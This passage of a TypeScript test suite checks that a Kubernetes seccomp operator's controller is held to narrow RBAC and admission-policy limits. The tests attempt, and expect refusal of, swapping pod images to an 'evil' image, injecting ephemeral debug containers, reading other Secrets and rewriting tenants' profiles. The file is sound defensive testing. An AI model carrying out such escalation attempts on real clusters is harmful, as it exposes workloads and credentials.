      expectStatus(res, 200, `apply ${2 * count} profiles (${Date.now() - started} ms)`);
      const evil = { spec: { template: { spec: { containers: [{ name: `app-${count - 1}`, image: "registry.example/evil:1" }] } } } };
      const refused = await call(kc, controller, { method: "PATCH", path, contentType: "application/strategic-merge-patch+json", body: evil });
      expectStatus(refused, 403, "the last container's image");
      assert.match(refused.body?.message ?? "", new RegExp(`not: container app-${count - 1}; update refused`), show(refused));
    });

    it("changes nothing in pods, even given the right to (admission policy)", async function () {
      // A grant the install does not make, to reach the policy behind RBAC.
      const grant = { apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", metadata: { name: "pods-for-the-test" }, rules: [{ apiGroups: [""], resources: ["pods", "pods/ephemeralcontainers"], verbs: ["update", "patch"] }] };
      const binding = { apiVersion: "rbac.authorization.k8s.io/v1", kind: "RoleBinding", metadata: { name: "pods-for-the-test" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "pods-for-the-test" }, subjects: [{ kind: "ServiceAccount", name: "seccomp-operator-controller", namespace: ns }] };
      expectStatus(await admin({ method: "POST", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles`, body: grant }), 201, "grant");
      expectStatus(await admin({ method: "POST", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings`, body: binding }), 201, "bind");
      // Pods are admitted once their ServiceAccount exists.
      expectStatus(await admin({ method: "POST", path: `/api/v1/namespaces/${ns}/serviceaccounts`, body: { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: "default" } } }), [201, 409], "default ServiceAccount");
      const pod = { apiVersion: "v1", kind: "Pod", metadata: { name: "web" }, spec: { containers: [{ name: "app", image: "registry.example/web:1" }] } };
      expectStatus(await admin({ method: "POST", path: `/api/v1/namespaces/${ns}/pods`, body: pod }), 201, "a pod");
      const path = `/api/v1/namespaces/${ns}/pods/web`;
      const image = { spec: { containers: [{ name: "app", image: "registry.example/evil:1" }] } };
      await eventually(async () => {
        const res = await call(kc, controller, { method: "PATCH", path, contentType: "application/strategic-merge-patch+json", body: image });
        expectStatus(res, 403, "change a pod's image");
        assert.match(res.body?.message ?? "", /may change in the containers of Pod .* not: container app/, show(res));
      });
      const debug = { spec: { ephemeralContainers: [{ name: "debug", image: "registry.example/evil:1" }] } };
      const res = await call(kc, controller, { method: "PATCH", path: `${path}/ephemeralcontainers`, contentType: "application/strategic-merge-patch+json", body: debug });
      expectStatus(res, 403, "add an ephemeral container");
      assert.match(res.body?.message ?? "", /may change nothing of Pod .* ephemeral containers/, show(res));
      await admin({ method: "DELETE", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings/pods-for-the-test` });
    });

    it("updates profile status and manages its finalizer", async function () {
      const profile = `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles/web`;
      expectStatus(
        await call(kc, controller, { method: "PATCH", path: `${profile}/status`, contentType: MERGE, body: { status: { observedGeneration: 1 } } }),
        200,
        "patch status",
      );
      const current = await call(kc, controller, { path: `${profile}/status` });
      expectStatus(current, 200, "get status");
      expectStatus(await call(kc, controller, { method: "PUT", path: `${profile}/status`, body: current.body }), 200, "update status");
      expectStatus(
        await call(kc, controller, { method: "PATCH", path: profile, contentType: MERGE, body: { metadata: { finalizers: ["seccomp.operator.dev/in-use"] } } }),
        200,
        "add the finalizer",
      );
      // And take it off again, or the namespace could never be deleted.
      expectStatus(
        await call(kc, controller, { method: "PATCH", path: profile, contentType: MERGE, body: { metadata: { finalizers: null } } }),
        200,
        "remove the finalizer",
      );
    });

    it("holds its own Lease and no other", async function () {
      const leases = `/apis/coordination.k8s.io/v1/namespaces/${ns}/leases`;
      const lease = { apiVersion: "coordination.k8s.io/v1", kind: "Lease", metadata: { name: "seccomp-operator-controller" }, spec: { holderIdentity: "controller-0", leaseDurationSeconds: 15 } };
      expectStatus(await call(kc, controller, { method: "POST", path: leases, body: lease }), 201, "create the Lease");
      const got = await call(kc, controller, { path: `${leases}/seccomp-operator-controller` });
      expectStatus(got, 200, "get the Lease");
      const renewed = { ...(got.body as object), spec: { ...lease.spec, holderIdentity: "controller-1" } };
      expectStatus(await call(kc, controller, { method: "PUT", path: `${leases}/seccomp-operator-controller`, body: renewed }), 200, "update the Lease");

      expectForbiddenByRbac(await call(kc, controller, { path: `${leases}/someone-else` }), "get another Lease");
      const other = await admin({ path: `${leases}/someone-else` });
      expectForbiddenByRbac(await call(kc, controller, { method: "PUT", path: `${leases}/someone-else`, body: other.body }), "update another Lease");
      expectForbiddenByRbac(await call(kc, controller, { path: leases }), "list Leases");
      expectForbiddenByRbac(await call(kc, controller, { method: "DELETE", path: `${leases}/seccomp-operator-controller` }), "delete its Lease");
      expectForbiddenByRbac(await call(kc, controller, { path: `/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager` }), "get a Lease elsewhere");
    });

    it("reads pods, nodes and node statuses, and deletes the status of a node that is gone", async function () {
      for (const path of ["/api/v1/pods", "/api/v1/nodes", nodeStatuses]) {
        expectStatus(await call(kc, controller, { path }), 200, `list ${path}`);
        expectStatus(await call(kc, controller, { path: `${path}?watch=true&timeoutSeconds=1`, statusOnly: true }), 200, `watch ${path}`);
      }
      const gone = `${ns}-node-gone`;
      expectStatus(await admin({ method: "POST", path: nodeStatuses, body: nodeStatus(gone) }), 201, "create");
      // The admission policy is the agent's only: the controller is not limited to one node.
      expectStatus(await call(kc, controller, { method: "DELETE", path: `${nodeStatuses}/${gone}` }), 200, "delete");
    });

    it("reads and patches its webhook certificate Secret and its webhook configuration, by name", async function () {
      const secret = `/api/v1/namespaces/${ns}/secrets/seccomp-operator-webhook-tls`;
      expectStatus(await call(kc, controller, { path: secret }), 200, "get its Secret");
      const data = { "tls.crt": Buffer.from("c").toString("base64"), "tls.key": Buffer.from("k").toString("base64") };
      const apply = (path: string, body: unknown) => call(kc, controller, { method: "PATCH", path: `${path}?fieldManager=seccomp-operator&force=true`, contentType: "application/apply-patch+yaml", body });
      expectStatus(await apply(secret, { apiVersion: "v1", kind: "Secret", metadata: { name: "seccomp-operator-webhook-tls", namespace: ns }, type: "Opaque", data }), 200, "apply its Secret");

      const config = { apiVersion: "admissionregistration.k8s.io/v1", kind: "MutatingWebhookConfiguration", metadata: { name: "seccomp-operator" }, webhooks: [] };
      expectForbiddenByRbac(await apply(WEBHOOK_CONFIGURATION, config), "create the webhook configuration");
      expectStatus(await admin({ method: "POST", path: WEBHOOK_CONFIGURATION.replace(/\/seccomp-operator$/, ""), body: config }), 201, "the install creates it");
      expectStatus(await call(kc, controller, { path: WEBHOOK_CONFIGURATION }), 200, "get the webhook configuration");
      expectStatus(await apply(WEBHOOK_CONFIGURATION, { ...config, metadata: { name: "seccomp-operator", labels: { checked: "yes" } } }), 200, "apply the webhook configuration");
      expectForbiddenByRbac(await call(kc, controller, { path: "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations" }), "list webhook configurations");
      expectForbiddenByRbac(await call(kc, controller, { path: "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations" }), "list validating webhook configurations");
    });

    it("creates the digest salt Secret in its namespace and reads it back, by name", async function () {
      const salt = { apiVersion: "v1", kind: "Secret", metadata: { name: "seccomp-operator-digest-salt" }, type: "Opaque", data: { salt: Buffer.alloc(32, 1).toString("base64") } };
      expectStatus(await call(kc, controller, { method: "POST", path: `/api/v1/namespaces/${ns}/secrets`, body: salt }), 201, "create the digest salt");
      expectStatus(await call(kc, controller, { path: `/api/v1/namespaces/${ns}/secrets/seccomp-operator-digest-salt` }), 200, "get the digest salt");
      expectStatus(await call(kc, agent, { path: `/api/v1/namespaces/${ns}/secrets/seccomp-operator-digest-salt` }), 200, "the agent gets the digest salt");
    });

    it("may not read other Secrets or ConfigMaps, write node statuses, or create and delete workloads", async function () {
      const refused: [Call, string][] = [
        [{ path: `/api/v1/namespaces/${ns}/secrets/token` }, "get a Secret"],
        [{ path: `/api/v1/secrets` }, "list Secrets"],
        [{ path: `/api/v1/namespaces/${ns}/secrets` }, "list the Secrets of its own namespace"],
        [{ path: `/api/v1/namespaces/${ns}/secrets?watch=true&fieldSelector=metadata.name%3Dtoken` }, "watch another Secret"],
        [{ method: "POST", path: `/api/v1/namespaces/default/secrets`, body: { apiVersion: "v1", kind: "Secret", metadata: { name: "seccomp-operator-digest-salt" } } }, "create a Secret outside its namespace"],
        [{ method: "DELETE", path: `/api/v1/namespaces/${ns}/secrets/seccomp-operator-webhook-tls` }, "delete its Secret"],
        [{ method: "PATCH", path: `/api/v1/namespaces/${ns}/secrets/seccomp-operator-digest-salt`, contentType: MERGE, body: { data: { salt: "" } } }, "change the digest salt"],
        [{ method: "DELETE", path: `/api/v1/namespaces/${ns}/secrets/seccomp-operator-digest-salt` }, "delete the digest salt"],
        [{ path: `/api/v1/configmaps` }, "list ConfigMaps"],
        [{ method: "POST", path: nodeStatuses, body: nodeStatus(`${ns}-node-e`) }, "create a SeccompNodeStatus"],
        [{ method: "PATCH", path: `${nodeStatuses}/${nodeB}`, contentType: MERGE, body: { status: { agentVersion: "forged" } } }, "patch a SeccompNodeStatus"],
        [{ method: "DELETE", path: `/apis/apps/v1/namespaces/${ns}/deployments/web` }, "delete a Deployment"],
        [{ method: "POST", path: `/apis/apps/v1/namespaces/${ns}/deployments`, body: { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "x" } } }, "create a Deployment"],
        [{ method: "POST", path: `/api/v1/namespaces/${ns}/pods`, body: { apiVersion: "v1", kind: "Pod", metadata: { name: "x" } } }, "create a Pod"],
      ];
      for (const [req, what] of refused) expectForbiddenByRbac(await call(kc, controller, req), what);
    });

    it("creates, changes and deletes only the profiles of recordings (admission policy); a tenant's profile it can neither delete nor rewrite", async function () {
      const collection = `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles`;
      const denied = (res: Response, what: string) => {
        expectStatus(res, 403, what);
        assert.match(res.body?.message ?? "", /may create, change and delete only the profiles of recordings/, `${what}: ${show(res)}`);
      };
      const body = (name: string, labels?: Record<string, string>) => ({ apiVersion: API_VERSION, kind: PROFILE_KIND, metadata: { name, ...(labels ? { labels } : {}) }, spec: { defaultAction: "SCMP_ACT_LOG" } });
      denied(await call(kc, controller, { method: "POST", path: collection, body: body("x") }), "create an unlabelled profile");
      denied(await call(kc, controller, { method: "DELETE", path: `${collection}/web` }), "delete a tenant's profile");
      denied(await call(kc, controller, { method: "PATCH", path: `${collection}/web`, contentType: MERGE, body: { spec: { defaultAction: "SCMP_ACT_ALLOW" } } }), "rewrite a tenant's profile");
      const labels = { "seccomp.operator.dev/recording": "rec" };
      expectStatus(await call(kc, controller, { method: "POST", path: collection, body: body("rec-app-audit", labels) }), 201, "create a recording's profile");
      expectStatus(await call(kc, controller, { method: "PATCH", path: `${collection}/rec-app-audit`, contentType: MERGE, body: { spec: { defaultAction: "SCMP_ACT_ERRNO" } } }), 200, "change a recording's profile");
      expectStatus(await call(kc, controller, { method: "DELETE", path: `${collection}/rec-app-audit` }), 200, "delete a recording's profile");
    });

    it("may not add, remove or move a profile's recording label, nor change anything but its finalizer on other profiles", async function () {
      const collection = `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles`;
      const patch = (name: string, body: unknown) => call(kc, controller, { method: "PATCH", path: `${collection}/${name}`, contentType: MERGE, body });
      const refused = (res: Response, what: string, pattern: RegExp) => {
        expectStatus(res, 403, what);
        assert.match(res.body?.message ?? "", pattern, `${what}: ${show(res)}`);
      };
      const LABEL = "seccomp.operator.dev/recording";
      // Labelling a tenant's profile first would make it a recording's, open to rewrite and delete.
      refused(await patch("web", { metadata: { labels: { [LABEL]: "rec" } } }), "label a tenant's profile", /may not add, remove or change the label seccomp\.operator\.dev\/recording/);
      refused(await patch("web", { metadata: { annotations: { "example.com/anything": "x" } } }), "annotate a tenant's profile", /of other profiles it changes only its finalizer/);
      refused(await patch("web", { metadata: { labels: { "example.com/tier": "x" } } }), "label a tenant's profile otherwise", /of other profiles it changes only its finalizer/);
      const labels = { [LABEL]: "rec2" };
      const made = { apiVersion: API_VERSION, kind: PROFILE_KIND, metadata: { name: "rec2-app-audit", labels }, spec: { defaultAction: "SCMP_ACT_LOG" } };
      expectStatus(await call(kc, controller, { method: "POST", path: collection, body: made }), 201, "create a recording's profile");
      refused(await patch("rec2-app-audit", { metadata: { labels: { [LABEL]: null } } }), "unlabel a recording's profile", /may not add, remove or change the label/);
      refused(await patch("rec2-app-audit", { metadata: { labels: { [LABEL]: "other" } } }), "move a recording's profile to another recording", /may not add, remove or change the label/);
      // What the recorder writes on its own profiles stays open.
      expectStatus(await patch("rec2-app-audit", { metadata: { annotations: { "seccomp.operator.dev/quieted-at": "2026-01-01T00:00:00Z" } }, spec: { defaultAction: "SCMP_ACT_ERRNO" } }), 200, "change a recording's profile");
      expectStatus(await call(kc, controller, { method: "DELETE", path: `${collection}/rec2-app-audit` }), 200, "delete a recording's profile");
    });

    it("cannot create, change or delete the catalogue's profiles, labelled or not; it only holds its finalizer on them", async function () {
      const collection = `/apis/${API_VERSION}/namespaces/${catalogue}/seccompprofiles`;
      const profile = (name: string, labels?: Record<string, string>) => ({ apiVersion: API_VERSION, kind: PROFILE_KIND, metadata: { name, ...(labels ? { labels } : {}) }, spec: { defaultAction: "SCMP_ACT_LOG" } });
      const labels = { "seccomp.operator.dev/recording": "rec" };
      expectStatus(await admin({ method: "POST", path: collection, body: profile("base") }), 201, "the administrator's catalogue profile");
      expectStatus(await admin({ method: "POST", path: collection, body: profile("labelled", labels) }), 201, "a catalogue profile that carries the label");
      const refused = (res: Response, what: string) => {
        expectStatus(res, 403, what);
        assert.match(res.body?.message ?? "", new RegExp(`the catalogue's profiles \\(namespace ${catalogue}\\) are not the seccomp-operator controller's`), `${what}: ${show(res)}`);
      };
      const patch = (name: string, body: unknown) => call(kc, controller, { method: "PATCH", path: `${collection}/${name}`, contentType: MERGE, body });
      refused(await call(kc, controller, { method: "POST", path: collection, body: profile("rec-app-audit", labels) }), "create a labelled profile in the catalogue");
      refused(await patch("labelled", { spec: { defaultAction: "SCMP_ACT_ALLOW" } }), "rewrite a labelled catalogue profile");
      refused(await call(kc, controller, { method: "DELETE", path: `${collection}/labelled` }), "delete a labelled catalogue profile");
      refused(await patch("base", { spec: { defaultAction: "SCMP_ACT_ALLOW" } }), "rewrite a catalogue profile");
      refused(await call(kc, controller, { method: "DELETE", path: `${collection}/base` }), "delete a catalogue profile");
      // As the controller adds it: server-side apply of the finalizer alone.
      const finalizer = { apiVersion: API_VERSION, kind: PROFILE_KIND, metadata: { name: "base", namespace: catalogue, finalizers: ["seccomp.operator.dev/in-use"] } };
      expectStatus(
        await call(kc, controller, { method: "PATCH", path: `${collection}/base?fieldManager=seccomp-operator`, contentType: "application/apply-patch+yaml", body: finalizer }),
        200,
        "add its finalizer to a catalogue profile",
      );
      expectStatus(await patch("base", { metadata: { finalizers: null } }), 200, "remove its finalizer");
    });

    it("records Events", async function () {
      await expectEvents(controller, "seccomp-operator-controller");
    });
  });

  async function expectEvents(who: Identity, component: string): Promise<void> {
    const now = new Date().toISOString().replace(/\.\d+Z$/, "Z");
    const regarding = { apiVersion: API_VERSION, kind: PROFILE_KIND, namespace: ns, name: "web" };
    const res = await call(kc, who, {
      method: "POST",
      path: `/apis/events.k8s.io/v1/namespaces/${ns}/events`,
      body: {
        apiVersion: "events.k8s.io/v1",
        kind: "Event",
        metadata: { generateName: `${component}-` },
        eventTime: now.replace("Z", ".000000Z"),
        reportingController: `seccomp.operator.dev/${component}`,
        reportingInstance: `${component}-0`,
        action: "Checked",
        reason: "Checked",
        type: "Normal",
        note: "test event",
        regarding,
      },
    });
    expectStatus(res, 201, "create an events.k8s.io Event");
    const name = (res.body as { metadata: { name: string } }).metadata.name;
    expectStatus(
      await call(kc, who, { method: "PATCH", path: `/apis/events.k8s.io/v1/namespaces/${ns}/events/${name}`, contentType: MERGE, body: { series: { count: 2, lastObservedTime: now.replace("Z", ".000000Z") } } }),
      200,
      "patch an events.k8s.io Event",
    );
    const core = await call(kc, who, {
      method: "POST",
      path: `/api/v1/namespaces/${ns}/events`,
      body: {
        apiVersion: "v1",
        kind: "Event",
        metadata: { generateName: `${component}-` },
        involvedObject: regarding,
        reason: "Checked",
        message: "test event",
        type: "Normal",
        source: { component },
        firstTimestamp: now,
        lastTimestamp: now,
        count: 1,
      },
    });
    expectStatus(core, 201, "create a core Event");
    const coreName = (core.body as { metadata: { name: string } }).metadata.name;
    expectStatus(
      await call(kc, who, { method: "PATCH", path: `/api/v1/namespaces/${ns}/events/${coreName}`, contentType: MERGE, body: { count: 2 } }),
      200,
      "patch a core Event",
    );
  }
});
